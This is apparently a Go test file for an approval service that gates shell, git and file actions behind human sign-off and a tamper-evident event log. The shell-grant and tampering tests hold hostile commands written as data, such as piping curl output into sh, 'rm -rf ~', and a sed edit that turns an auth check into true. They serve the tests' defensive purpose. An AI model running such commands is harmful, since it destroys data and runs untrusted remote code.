package domain

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/picoclaw-suite/picoclaw/pkg/patch"
)

var t0 = time.Date(2026, 3, 1, 9, 0, 0, 0, time.UTC)

func mustParse(t *testing.T, s string) *patch.Patch {
	t.Helper()
	p, err := patch.Parse(s, patch.Options{BroadOverwriteFiles: 3})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func pending(t *testing.T) Job {
	t.Helper()
	p := mustParse(t, `[{"type":"file_edit","action":"update","target":"docs/a","content":"x"}]`)
	return Job{ID: "job_20260301_001", Status: StatusPending, ContentHash: p.Hash, ExpiresAt: t0.Add(30 * time.Minute)}
}

func TestStateMachine(t *testing.T) {
	alice := Actor{ID: "U1", Channel: "line"}
	type step func(j Job) ([]Draft, error)
	approve := func(j Job) ([]Draft, error) { return j.Approve(alice, t0) }
	deny := func(j Job) ([]Draft, error) { return j.Deny(alice, "no", t0) }
	cancel := func(j Job) ([]Draft, error) { return j.Cancel(alice, "", t0) }
	lateApprove := func(j Job) ([]Draft, error) { return j.Approve(alice, t0.Add(time.Hour)) }
	claim := func(j Job) ([]Draft, error) {
		return j.Claim(ClaimCheck{ExecutorID: "e", ActualHash: j.ContentHash, GrantActive: true}, t0)
	}
	tests := []struct {
		name   string
		status Status
		do     step
		err    error
		types  []EventType
	}{
		{"approve pending", StatusPending, approve, nil, []EventType{EventGranted}},
		{"deny pending", StatusPending, deny, nil, []EventType{EventDenied}},
		{"approve granted", StatusGranted, approve, ErrConflict, []EventType{EventDecisionRejected}},
		{"deny denied", StatusDenied, deny, ErrConflict, []EventType{EventDecisionRejected}},
		{"approve expired", StatusExpired, approve, ErrConflict, []EventType{EventDecisionRejected}},
		{"approve past expiry", StatusPending, lateApprove, ErrExpired, []EventType{EventExpired, EventDecisionRejected}},
		{"cancel pending", StatusPending, cancel, nil, []EventType{EventCancelled}},
		{"cancel executing", StatusExecuting, cancel, ErrConflict, []EventType{EventDecisionRejected}},
		{"claim granted", StatusGranted, claim, nil, []EventType{EventClaimed}},
		{"claim auto-approved", StatusAutoApproved, claim, nil, []EventType{EventClaimed}},
		{"claim pending", StatusPending, claim, ErrConflict, []EventType{EventClaimRejected}},
		{"claim executing", StatusExecuting, claim, ErrConflict, []EventType{EventClaimRejected}},
		{"claim refused", StatusRefused, claim, ErrConflict, []EventType{EventClaimRejected}},
		{"claim with changed content", StatusGranted, func(j Job) ([]Draft, error) {
			return j.Claim(ClaimCheck{ExecutorID: "e", ActualHash: "other", GrantActive: true}, t0)
		}, ErrHashMismatch, []EventType{EventHashMismatch}},
		{"claim after grant ended", StatusAutoApproved, func(j Job) ([]Draft, error) {
			return j.Claim(ClaimCheck{ExecutorID: "e", ActualHash: j.ContentHash}, t0)
		}, ErrConflict, []EventType{EventAutoApprovalRevoked, EventClaimRejected}},
		{"claim executing after its lease lapsed", StatusExecuting, func(j Job) ([]Draft, error) {
			return j.Claim(ClaimCheck{ExecutorID: "f", ActualHash: j.ContentHash}, t0.Add(time.Minute))
		}, nil, []EventType{EventClaimLapsed, EventClaimed}},
		{"claim executing after its lease lapsed, content changed", StatusExecuting, func(j Job) ([]Draft, error) {
			return j.Claim(ClaimCheck{ExecutorID: "f", ActualHash: "other"}, t0.Add(time.Minute))
		}, ErrHashMismatch, []EventType{EventHashMismatch}},
		{"report on pending", StatusPending, func(j Job) ([]Draft, error) { return j.Report(ExecCompleted, "e", 3, ExecutionPayload{}, t0) }, ErrConflict, nil},
		{"report hash mismatch", StatusExecuting, func(j Job) ([]Draft, error) { return j.Report(ExecHashMismatch, "e", 3, ExecutionPayload{}, t0) }, nil, []EventType{EventHashMismatch}},
		{"report by the holder", StatusExecuting, func(j Job) ([]Draft, error) { return j.Report(ExecCompleted, "e", 3, ExecutionPayload{}, t0) }, nil, []EventType{EventExecutionCompleted}},
		{"report by another executor", StatusExecuting, func(j Job) ([]Draft, error) { return j.Report(ExecRefused, "f", 3, ExecutionPayload{}, t0) }, ErrNotHolder, []EventType{EventReportRejected}},
		{"report with a lost token", StatusExecuting, func(j Job) ([]Draft, error) { return j.Report(ExecFailed, "e", 2, ExecutionPayload{}, t0) }, ErrNotHolder, []EventType{EventReportRejected}},
		{"report without a token", StatusExecuting, func(j Job) ([]Draft, error) { return j.Report(ExecFailed, "e", 0, ExecutionPayload{}, t0) }, ErrNotHolder, []EventType{EventReportRejected}},
		{"renew by the holder", StatusExecuting, func(j Job) ([]Draft, error) { return j.Renew("e", 3, time.Minute, t0) }, nil, []EventType{EventClaimRenewed}},
		{"renew by the holder after the lease ran out", StatusExecuting, func(j Job) ([]Draft, error) { return j.Renew("e", 3, time.Minute, t0.Add(time.Hour)) }, nil, []EventType{EventClaimRenewed}},
		{"renew by another executor", StatusExecuting, func(j Job) ([]Draft, error) { return j.Renew("f", 3, time.Minute, t0) }, ErrNotHolder, []EventType{EventReportRejected}},
		{"renew of a finished job", StatusCompleted, func(j Job) ([]Draft, error) { return j.Renew("e", 3, time.Minute, t0) }, ErrConflict, nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			j := pending(t)
			j.Status = tc.status
			if tc.status == StatusExecuting {
				j.ClaimedBy, j.ClaimToken, j.LeaseExpiresAt = "e", 3, t0.Add(time.Minute)
			}
			drafts, err := tc.do(j)
			if !errors.Is(err, tc.err) || (tc.err == nil && err != nil) {
				t.Fatalf("err = %v, want %v", err, tc.err)
			}
			var got []EventType
			for _, d := range drafts {
				got = append(got, d.Type)
			}
			if strings.Join(typesStr(got), ",") != strings.Join(typesStr(tc.types), ",") {
				t.Errorf("events %v, want %v", got, tc.types)
			}
		})
	}
}

func typesStr(ts []EventType) []string {
	out := make([]string, len(ts))
	for i, t := range ts {
		out[i] = string(t)
	}
	return out
}

var testKeys = func() *Keyring {
	k, err := NewKeyring([]byte("0123456789abcdef0123456789abcdef-current"), []byte("0123456789abcdef0123456789abcdef-old"))
	if err != nil {
		panic(err)
	}
	return k
}()

func TestFoldAndChain(t *testing.T) {
	j := pending(t)
	req, err := testKeys.Seal(j.ID, 0, "", Draft{Type: EventRequested, Actor: Actor{ID: "chat-mio"}, At: t0, Payload: j})
	if err != nil {
		t.Fatal(err)
	}
	var cur Job
	if err := cur.Apply(req); err != nil {
		t.Fatal(err)
	}
	drafts, _ := cur.Approve(Actor{ID: "U1", Channel: "line"}, t0.Add(time.Minute))
	granted, _ := testKeys.Seal(j.ID, cur.Version, cur.LastHash, drafts[0])
	if err := cur.Apply(granted); err != nil {
		t.Fatal(err)
	}
	if cur.Status != StatusGranted || cur.Version != 2 || cur.DecidedBy.ID != "U1" {
		t.Fatalf("job = %+v", cur)
	}
	evs := []Event{req, granted}
	if err := testKeys.VerifyChain(evs); err != nil {
		t.Fatal(err)
	}
	rebuilt, err := Rebuild(evs)
	if err != nil || rebuilt.Status != StatusGranted || rebuilt.LastHash != granted.Hash {
		t.Fatalf("rebuild = %+v, %v", rebuilt, err)
	}
	for name, tamper := range map[string]func([]Event){
		"payload":   func(e []Event) { e[0].Payload = []byte(`{"content_hash":"x"}`) },
		"type":      func(e []Event) { e[1].Type = EventDenied },
		"prev_hash": func(e []Event) { e[1].PrevHash = "0" },
		"seq gap":   func(e []Event) { e[1].Seq = 3 },
		"time":      func(e []Event) { e[1].At = e[1].At.Add(time.Second) },
		"key id":    func(e []Event) { e[1].KeyID = "kother" },
		"unkeyed":   func(e []Event) { e[1].KeyID = "" },
	} {
		c := []Event{req, granted}
		tamper(c)
		if err := testKeys.VerifyChain(c); !errors.Is(err, ErrTampered) {
			t.Errorf("tampered %s: %v, want ErrTampered", name, err)
		}
	}
}

// sealed builds a granted, claimed job's events and its matching read model.
func sealed(t *testing.T, k *Keyring) ([]Event, ReadModel) {
	t.Helper()
	j := pending(t)
	j.Patch = "p"
	var cur Job
	var evs []Event
	add := func(d Draft) {
		e, err := k.Seal(j.ID, cur.Version, cur.LastHash, d)
		if err != nil {
			t.Fatal(err)
		}
		if err := cur.Apply(e); err != nil {
			t.Fatal(err)
		}
		evs = append(evs, e)
	}
	add(Draft{Type: EventRequested, Actor: Actor{ID: "chat-mio"}, At: t0, Payload: j})
	ds, _ := cur.Deny(Actor{ID: "U2", Channel: "line"}, "", t0)
	add(rejected("deny", cur, Actor{ID: "U2"}, "x", t0))
	_ = ds
	ds, _ = cur.Approve(Actor{ID: "U1", Channel: "line"}, t0.Add(time.Minute))
	add(ds[0])
	ds, _ = cur.Claim(ClaimCheck{ExecutorID: "ex", ActualHash: cur.ContentHash}, t0.Add(2*time.Minute))
	add(ds[0])
	return evs, ReadModel{Job: cur, Approver: cur.DecidedBy.ID, AutoApproved: cur.AutoApproved}
}

func TestCheckJobClassifiesTampering(t *testing.T) {
	// What an attacker without the key computes: the plain sha256 of the same encoding.
	recompute := func(evs []Event, from int) {
		for i := from; i < len(evs); i++ {
			if i > 0 {
				evs[i].PrevHash = evs[i-1].Hash
			}
			sum := sha256.Sum256(canonical(evs[i]))
			evs[i].Hash = hex.EncodeToString(sum[:])
		}
	}
	other, _ := NewKeyring([]byte("another-key-another-key-another-key!"))
	for _, tc := range []struct {
		name   string
		tamper func(evs []Event, rm *ReadModel) []Event
		want   FindingKind
	}{
		{"untouched", func(evs []Event, _ *ReadModel) []Event { return evs }, ""},
		{"edited payload", func(evs []Event, _ *ReadModel) []Event {
			evs[0].Payload = []byte(strings.Replace(string(evs[0].Payload), `"patch":"p"`, `"patch":"q"`, 1))
			return evs
		}, FindingEdited},
		{"recomputed chain", func(evs []Event, rm *ReadModel) []Event {
			evs[2].Actor.ID = "Umallory"
			recompute(evs, 2)
			rm.Job.LastHash = evs[len(evs)-1].Hash
			return evs
		}, FindingRecomputed},
		{"resealed under a foreign key", func(evs []Event, _ *ReadModel) []Event {
			evs[1].Payload = []byte(`{}`)
			evs[1].Hash, _ = other.mac(Event{KeyID: other.current})
			return evs
		}, FindingEdited},
		{"deleted middle event", func(evs []Event, _ *ReadModel) []Event { return append(evs[:1:1], evs[2:]...) }, FindingMissingEvents},
		{"deleted last event", func(evs []Event, _ *ReadModel) []Event { return evs[:len(evs)-1] }, FindingMissingLast},
		{"deleted last event and rolled back the row", func(evs []Event, rm *ReadModel) []Event {
			rm.Job.Version, rm.Job.LastHash = 3, "forged"
			return evs[:3]
		}, FindingAnchor},
		{"reordered", func(evs []Event, _ *ReadModel) []Event {
			evs[1], evs[2] = evs[2], evs[1]
			evs[1].Seq, evs[2].Seq = 2, 3
			return evs
		}, FindingReordered},
		{"row status", func(evs []Event, rm *ReadModel) []Event { rm.Job.Status = StatusGranted; return evs }, FindingReadModel},
		{"row approver", func(evs []Event, rm *ReadModel) []Event { rm.Approver = "Umallory"; return evs }, FindingReadModel},
		{"row content hash", func(evs []Event, rm *ReadModel) []Event { rm.Job.ContentHash = "x"; return evs }, FindingReadModel},
		{"row patch", func(evs []Event, rm *ReadModel) []Event { rm.Job.Patch = "rm -rf ~"; return evs }, FindingReadModel},
		{"row missing", func(evs []Event, rm *ReadModel) []Event { *rm = ReadModel{Job: Job{Version: -1}}; return evs }, FindingNoReadModel},
		{"unknown key", func(evs []Event, _ *ReadModel) []Event { evs[3].KeyID = "kgone"; return evs }, FindingUnknownKey},
		{"unkeyed after keying", func(evs []Event, _ *ReadModel) []Event {
			evs[3].KeyID = ""
			evs[3].Hash = legacyHash(evs[3])
			return evs
		}, FindingUnkeyed},
	} {
		t.Run(tc.name, func(t *testing.T) {
			evs, rm := sealed(t, testKeys)
			evs = tc.tamper(evs, &rm)
			rmp := &rm
			if rm.Job.Version == -1 {
				rmp = nil
			}
			_, fs := testKeys.CheckJob(evs[0].JobID, rmp, evs, true)
			if tc.want == "" {
				if len(fs) > 0 {
					t.Fatalf("findings on an untouched job: %v", fs)
				}
				return
			}
			found := false
			for _, f := range fs {
				found = found || f.Kind == tc.want
			}
			if !found {
				t.Fatalf("findings %v, want one of kind %s", fs, tc.want)
			}
		})
	}
}

func TestKeyRotationAndLegacy(t *testing.T) {
	old, _ := NewKeyring([]byte("0123456789abcdef0123456789abcdef-old"))
	evs, rm := sealed(t, old)
	if _, fs := testKeys.CheckJob(evs[0].JobID, &rm, evs, true); len(fs) > 0 {
		t.Fatalf("events sealed under a retired key: %v", fs)
	}
	next, _ := testKeys.Seal(evs[0].JobID, rm.Job.Version, rm.Job.LastHash, Draft{Type: EventExecutionStarted, At: t0})
	if next.KeyID != testKeys.CurrentID() || next.KeyID == old.CurrentID() {
		t.Fatalf("new event sealed under %q", next.KeyID)
	}
	if err := testKeys.VerifyChain(append(evs, next)); err != nil {
		t.Fatal(err)
	}
	if _, err := NewKeyring([]byte("short")); err == nil {
		t.Error("a short key was accepted")
	}
	// Events written before keying verify by their old sha256 only when the store marks them so.
	e := evs[0]
	e.KeyID, e.Legacy = "", true
	e.Hash = legacyHash(e)
	if err := testKeys.VerifyChain([]Event{e}); err != nil {
		t.Errorf("legacy event: %v", err)
	}
}

func TestApprovers(t *testing.T) {
	a, err := NewApprovers(ApproverConfig{Line: []string{"U1", "Ubot"}, Slack: []string{"S1"}, RESTTokens: "ops:0123456789abcdef0123-ghijklmnopqrst", BotIDs: []string{"Ubot"}})
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		actor Actor
		ok    bool
	}{
		{Actor{ID: "U1", Channel: "line"}, true},
		{Actor{ID: "S1", Channel: "slack"}, true},
		{Actor{ID: "ops", Channel: "rest"}, true},
		{Actor{ID: "U1", Channel: "slack"}, false},
		{Actor{ID: "Ubot", Channel: "line"}, false},
		{Actor{ID: "approval", Channel: "system"}, false},
		{Actor{}, false},
	} {
		if err := a.Check(tc.actor); (err == nil) != tc.ok {
			t.Errorf("Check(%+v) = %v, want ok=%v", tc.actor, err, tc.ok)
		}
	}
	if actor, ok := a.Authenticate("0123456789abcdef0123-ghijklmnopqrst"); !ok || actor.ID != "ops" {
		t.Errorf("Authenticate = %+v %v", actor, ok)
	}
	if _, ok := a.Authenticate("wrong-token-wrong-token"); ok {
		t.Error("wrong token authenticated")
	}
	empty, _ := NewApprovers(ApproverConfig{})
	if err := empty.Check(Actor{ID: "U1", Channel: "line"}); !errors.Is(err, ErrPermission) {
		t.Error("an empty list let someone approve")
	}
	if _, err := NewApprovers(ApproverConfig{RESTTokens: "ops:short"}); !errors.Is(err, ErrInvalid) {
		t.Errorf("short token accepted: %v", err)
	}
}

func TestRequestText(t *testing.T) {
	p := mustParse(t, `[{"type":"file_edit","action":"delete","target":"docs/old.md"},{"type":"browser","action":"chrome_navigate","target":"https://example.com/x"}]`)
	j := Job{ID: "job_20260301_007", Summary: "古いページを消す @channel <!here>\n二行目\n三行目\n四行目", UsesBrowser: true,
		AffectedPaths: p.AffectedPaths, ExpiresAt: t0.Add(30 * time.Minute), Cost: CostHint{EstimatedCostUSD: 0.12, EstimatedTokens: 3000},
		Risk: Risk{Level: "low"}}
	d := Evaluate(PolicyConfig{}, PolicyInput{Patch: p}, nil, t0)
	tokyo, _ := time.LoadLocation("Asia/Tokyo")
	ja := RequestText(j, p, d.Hits, tokyo)
	for _, want := range []string{"job_20260301_007", BrowserWarningJA, "docs/old.md", "ブラウザ example.com", "/approve job_20260301_007",
		"/deny job_20260301_007 [理由]", "#1 削除: file_edit delete docs/old.md", "#2 ブラウザ操作: browser chrome_navigate https://example.com/x",
		"リスク: 高 (コーダーの評価: 低)", "ロールバック: 不可", "$0.12 / 3000 トークン", "2026-03-01 18:30 JST", "三行目"} {
		if !strings.Contains(ja, want) {
			t.Errorf("ja text lacks %q:\n%s", want, ja)
		}
	}
	for _, banned := range []string{"@channel", "<!here>", "四行目"} {
		if strings.Contains(ja, banned) {
			t.Errorf("ja text contains %q:\n%s", banned, ja)
		}
	}
	j.Locale = "en"
	en := RequestText(j, p, d.Hits, tokyo)
	for _, want := range []string{BrowserWarningEN, "/approve job_20260301_007 to approve", "Risk: high", "Rollback: not possible",
		"#1 delete: file_edit delete docs/old.md", "#2 browser operation: browser chrome_navigate https://example.com/x", "browser example.com",
		"$0.12 / 3000 tokens"} {
		if !strings.Contains(en, want) {
			t.Errorf("en text lacks %q:\n%s", want, en)
		}
	}
	if strings.Contains(en, BrowserWarningJA) {
		t.Error("en text has the Japanese warning")
	}
	if got := SafeText(strings.Repeat("あ", 300), 10); got != strings.Repeat("あ", 10)+"…" {
		t.Errorf("SafeText truncation = %q", got)
	}
}

// A force push is its own hard-require hit, and the message shows the exact remote, branch,
// force mode and command the executor will run.
func TestForcePushIsShownExactly(t *testing.T) {
	p := mustParse(t, `[{"type":"git_operation","action":"push","target":"https://github.com/o/r.git","metadata":{"branch":"main","force":"lease"}}]`)
	d := Evaluate(PolicyConfig{}, PolicyInput{Patch: p}, &Grant{ID: "g", ExpiresAt: t0.Add(time.Hour)}, t0)
	rules := map[string]string{}
	for _, h := range d.Hits {
		rules[h.Rule] = h.Detail
	}
	const cmd = "git push --force-with-lease https://github.com/o/r.git refs/heads/main:refs/heads/main"
	if d.Outcome != OutcomePending || rules["hard_require.force_push"] != cmd || rules["hard_require.network"] == "" {
		t.Fatalf("decision %+v", d)
	}
	j := Job{ID: "job_20260301_008", ExpiresAt: t0.Add(30 * time.Minute)}
	ja := RequestText(j, p, d.Hits, time.UTC)
	for _, want := range []string{"プッシュ #1: リモート https://github.com/o/r.git（URL）, ブランチ main, 強制: はい（--force-with-lease）", cmd, "ネットワーク"} {
		if !strings.Contains(ja, want) {
			t.Errorf("ja text lacks %q:\n%s", want, ja)
		}
	}
	j.Locale = "en"
	p = mustParse(t, "```git\ngit push https://git.example.com/team/repo.git feature/x\n```\n")
	en := RequestText(j, p, nil, time.UTC)
	for _, want := range []string{"Push #1: remote https://git.example.com/team/repo.git (URL), branch feature/x, forced: no",
		"git push https://git.example.com/team/repo.git refs/heads/feature/x:refs/heads/feature/x"} {
		if !strings.Contains(en, want) {
			t.Errorf("en text lacks %q:\n%s", want, en)
		}
	}
}

func TestGrantStatusText(t *testing.T) {
	g := &Grant{ID: "g", PathPrefixes: []string{"docs"}, ExpiresAt: t0.Add(30 * time.Minute)}
	if s := GrantStatusText(g, t0, "ja", false); !strings.Contains(s, "ON") || !strings.Contains(s, "30m0s") || !strings.Contains(s, "docs") {
		t.Errorf("ja status = %q", s)
	}
	if s := GrantStatusText(g, t0.Add(time.Hour), "en", false); s != "Auto-Approve: OFF" {
		t.Errorf("expired status = %q", s)
	}
	if s := GrantStatusText(nil, t0, "en", true); !strings.Contains(s, "unreachable") {
		t.Errorf("unavailable status = %q", s)
	}
}

// A shell grant covers only commands that run no other code and write only inside its paths.
func TestShellGrantScope(t *testing.T) {
	shellDocs := &Grant{ID: "g", AllowedOperations: []string{OpsShell}, PathPrefixes: []string{"docs"}, ExpiresAt: t0.Add(time.Hour)}
	shell := func(cmd string) string {
		b, _ := json.Marshal(cmd)
		return `{"type":"shell_command","action":"run","target":` + string(b) + `}`
	}
	tests := []struct {
		name  string
		patch string
		rule  string
	}{
		{"redirect into src", shell("echo pwned > src/auth.go"), RuleScopePath},
		{"sed -i", shell("sed -i 's/check()/true/' src/auth.go"), RuleScopeShellCommand},
		{"awk system", shell(`awk 'BEGIN{system("rm -rf src; curl -s https://example.com | sh")}'`), RuleScopeShellCommand},
		{"script written by the same patch", `{"type":"file_edit","action":"create","target":"docs/x.sh","content":"rm -rf src"},` + shell("bash docs/x.sh"), RuleScopeShellCommand},
		{"./ script written by the same patch", `{"type":"file_edit","action":"create","target":"docs/x.sh","content":"rm -rf src"},` + shell("./docs/x.sh"), RuleScopeShellCommand},
		{"tar --to-command", shell("tar --to-command=sh -xf docs/a.tar"), RuleScopeShellCommand},
		{"make", shell("make"), RuleScopeShellCommand},
		{"npm test", shell("npm test"), RuleScopeShellCommand},
		{"python3", shell("python3 x.py"), RuleScopeShellCommand},
		{"./x.sh", shell("./x.sh"), RuleScopeShellCommand},
		{"gcc and run", shell("gcc -o a a.c && ./a"), RuleScopeShellCommand},
		{"PATH into the grant's paths", shell("PATH=docs ls"), RuleScopeShellCommand},
		{"echo into src", shell("echo hi > src/a.md"), RuleScopePath},
		{"cp into src", shell("cp docs/a src/b"), RuleScopePath},
		{"mkdir outside", shell("mkdir -p docs/../src/x"), RuleScopePath},
		{"touch docsx", shell("touch docsx/a"), RuleScopePath},
		{"write to the workspace root", shell("echo x > README.md"), RuleScopePath},
		{"absolute write", shell("echo x >> /tmp/x"), "hard_require.outside_workspace"},
		{"second of two writes outside", shell("echo a > docs/a; echo b > src/b"), RuleScopePath},
		{"ls docs", shell("ls docs"), RuleAutoApprove},
		{"mkdir in docs", shell("mkdir -p docs/new"), RuleAutoApprove},
		{"echo into docs", shell("echo hi > docs/a.md"), RuleAutoApprove},
		{"grep | wc", shell("grep -r foo docs | wc -l"), RuleAutoApprove},
		{"cp within docs", shell("cp docs/a ./docs/b"), RuleAutoApprove},
		{"mkdir docs itself", shell("mkdir -p docs"), RuleAutoApprove},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			d := Evaluate(PolicyConfig{}, PolicyInput{Patch: mustParse(t, "["+tc.patch+"]")}, shellDocs, t0)
			want := OutcomePending
			if tc.rule == RuleAutoApprove {
				want = OutcomeAutoApproved
			}
			if d.Outcome != want || d.Rule != tc.rule {
				t.Errorf("got %s by %s (%s), want %s by %s", d.Outcome, d.Rule, d.Reason, want, tc.rule)
			}
			if d.Reason == "" {
				t.Error("no reason given")
			}
		})
	}
}

// A claim is a lease: claimed sets the holder, its fencing token (the event's seq) and the
// lease's end; a renewal moves the end; after the lease ran out another executor takes over with
// a new token, and only it can report — the folded job says so, and rebuilds from its events.
func TestClaimLeaseLifecycle(t *testing.T) {
	j := pending(t)
	var cur Job
	var evs []Event
	add := func(ds []Draft, err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
		for _, d := range ds {
			e, err := testKeys.Seal(j.ID, cur.Version, cur.LastHash, d)
			if err != nil {
				t.Fatal(err)
			}
			if err := cur.Apply(e); err != nil {
				t.Fatal(err)
			}
			evs = append(evs, e)
		}
	}
	add([]Draft{{Type: EventRequested, Actor: Actor{ID: "chat-mio"}, At: t0, Payload: j}}, nil)
	add(cur.Approve(Actor{ID: "U1", Channel: "line"}, t0))
	add(cur.Claim(ClaimCheck{ExecutorID: "exec-a", ActualHash: cur.ContentHash, LeaseTTL: time.Minute}, t0.Add(time.Second)))
	first := cur.ClaimToken
	if cur.Status != StatusExecuting || cur.ClaimedBy != "exec-a" || first != 3 || !cur.LeaseExpiresAt.Equal(t0.Add(61*time.Second)) {
		t.Fatalf("after claim: %+v", cur)
	}
	// Live: another executor is refused.
	if _, err := cur.Claim(ClaimCheck{ExecutorID: "exec-b", ActualHash: cur.ContentHash}, t0.Add(30*time.Second)); !errors.Is(err, ErrConflict) {
		t.Fatalf("claim of a live lease = %v", err)
	}
	add(cur.Renew("exec-a", first, time.Minute, t0.Add(50*time.Second)))
	if !cur.LeaseExpiresAt.Equal(t0.Add(110 * time.Second)) {
		t.Fatalf("renewed until %v", cur.LeaseExpiresAt)
	}
	// A claim recorded before claims were leases (no lease time) never lapses by itself.
	legacy := cur
	legacy.LeaseExpiresAt = time.Time{}
	if legacy.LeaseLapsed(t0.Add(24 * time.Hour)) {
		t.Fatal("a claim without a lease counts as lapsed")
	}
	// exec-a stops; past its lease exec-b takes over.
	at := t0.Add(2 * time.Minute)
	if !cur.LeaseLapsed(at) {
		t.Fatal("lease not lapsed")
	}
	add(cur.Claim(ClaimCheck{ExecutorID: "exec-b", ActualHash: cur.ContentHash, LeaseTTL: time.Minute}, at))
	if cur.ClaimedBy != "exec-b" || cur.ClaimToken <= first || !cur.ExecutedAt.Equal(t0.Add(time.Second)) {
		t.Fatalf("after takeover: holder %s token %d executed %v", cur.ClaimedBy, cur.ClaimToken, cur.ExecutedAt)
	}
	// The old holder comes back: its report is refused, the new holder's counts.
	if ds, err := cur.Report(ExecRefused, "exec-a", first, ExecutionPayload{Detail: "claim refused"}, at); !errors.Is(err, ErrNotHolder) {
		t.Fatalf("stale report = %v", err)
	} else {
		add(ds, nil)
	}
	if cur.Status != StatusExecuting {
		t.Fatalf("a stale report moved the job to %s", cur.Status)
	}
	add(cur.Report(ExecCompleted, "exec-b", cur.ClaimToken, ExecutionPayload{Result: []byte(`{"success":true}`)}, at))
	if cur.Status != StatusCompleted {
		t.Fatalf("status %s", cur.Status)
	}
	rebuilt, err := Rebuild(evs)
	if err != nil || !reflect.DeepEqual(rebuilt, cur) {
		t.Fatalf("rebuilt %+v (%v), folded %+v", rebuilt, err, cur)
	}
	var types []string
	for _, e := range evs {
		types = append(types, string(e.Type))
	}
	if got := strings.Join(types, ","); got != "requested,granted,claimed,claim_renewed,claim_lapsed,claimed,report_rejected,execution_completed" {
		t.Fatalf("events %s", got)
	}
}

// A cost confirmation is a go-ahead for a coder call, never something to run: even granted, no
// executor can claim it.
func TestCostConfirmationIsNeverClaimed(t *testing.T) {
	for _, st := range []Status{StatusGranted, StatusAutoApproved, StatusPending} {
		j := Job{ID: "job_20260301_002", Status: st, ContentHash: "sha256:x", CostConfirmation: true}
		drafts, err := j.Claim(ClaimCheck{ExecutorID: "e", ActualHash: j.ContentHash, GrantActive: true}, t0)
		if !errors.Is(err, ErrConflict) || len(drafts) != 1 || drafts[0].Type != EventClaimRejected {
			t.Errorf("%s: claim = %v, %v", st, drafts, err)
		}
	}
}

func TestCostQuestionNamesTheEstimateAndTheCommands(t *testing.T) {
	j := Job{ID: "job_20260301_003", Order: "order3", Summary: "大きな移行\n<!channel>", Cost: CostHint{EstimatedTokens: 90000, EstimatedCostUSD: 1.35}}
	cfg := PolicyConfig{CostLimitUSD: 0.5, TokenLimit: 50000}
	for loc, want := range map[string][]string{
		"ja": {"約 $1.35", "90000 トークン", "$0.50 / 50000", "続行しますか", "/approve job_20260301_003", "/deny job_20260301_003"},
		"en": {"about $1.35", "90000 tokens", "$0.50 / 50000", "Continue at about $1.35?", "/approve job_20260301_003"},
	} {
		j.Locale = loc
		got := CostQuestion(j, cfg)
		for _, w := range want {
			if !strings.Contains(got, w) {
				t.Errorf("%s: %q lacks %q", loc, got, w)
			}
		}
	}
}

// An auto-approved execution whose executor stopped is taken over only while Auto-Approve still
// allows it; once the grant is off, the takeover fails the job (one failure, recorded by the
// service) and nothing more of it runs.
func TestTakeoverOfAnAutoApprovedExecutionRechecksTheGrant(t *testing.T) {
	executing := func() Job {
		j := pending(t)
		j.Status, j.AutoApproved, j.GrantID = StatusExecuting, true, "grant-1"
		j.ClaimedBy, j.ClaimToken, j.LeaseExpiresAt = "exec-a", 3, t0.Add(time.Minute)
		return j
	}
	at := t0.Add(2 * time.Minute)
	j := executing()
	ds, err := j.Claim(ClaimCheck{ExecutorID: "exec-b", ActualHash: j.ContentHash, GrantActive: true, LeaseTTL: time.Minute}, at)
	if err != nil || len(ds) != 2 || ds[0].Type != EventClaimLapsed || ds[1].Type != EventClaimed {
		t.Fatalf("takeover with the grant in force: %v, %v", ds, err)
	}
	ds, err = j.Claim(ClaimCheck{ExecutorID: "exec-b", ActualHash: j.ContentHash, GrantActive: false, LeaseTTL: time.Minute}, at)
	if !errors.Is(err, ErrConflict) || len(ds) != 2 || ds[0].Type != EventClaimLapsed || ds[1].Type != EventExecutionFailed || ds[1].Actor != System {
		t.Fatalf("takeover with the grant off: %v, %v", ds, err)
	}
	cur := j
	for _, d := range ds {
		e, serr := testKeys.Seal(cur.ID, cur.Version, cur.LastHash, d)
		if serr != nil {
			t.Fatal(serr)
		}
		if aerr := cur.Apply(e); aerr != nil {
			t.Fatal(aerr)
		}
	}
	if cur.Status != StatusFailed || cur.LeaseLapsed(at.Add(time.Hour)) || !cur.Interrupted {
		t.Fatalf("after the refused takeover: %s (interrupted %t)", cur.Status, cur.Interrupted)
	}
	// Nobody waits on the stopped executor: the requester's chat is told, once, with /retry.
	j.SessionID, cur.SessionID = "line:U1", "line:U1"
	if n, ok := NoticeOf(j, cur); !ok || n.Status != StatusFailed {
		t.Fatalf("notice of the interrupted job: %+v %t", n, ok)
	}
	if text := NoticeText(cur, StatusFailed, nil); !strings.Contains(text, "/retry "+cur.ID) || !strings.Contains(text, "中断") {
		t.Fatalf("notice text %q", text)
	}
	if _, ok := NoticeOf(cur, cur); ok {
		t.Fatal("a notice owed twice")
	}
	// A person's approval (not a grant) is not re-checked: the takeover goes on.
	person := executing()
	person.AutoApproved, person.GrantID = false, ""
	if ds, err := person.Claim(ClaimCheck{ExecutorID: "exec-b", ActualHash: person.ContentHash, GrantActive: false}, at); err != nil || ds[1].Type != EventClaimed {
		t.Fatalf("takeover of a person-approved job: %v, %v", ds, err)
	}
}
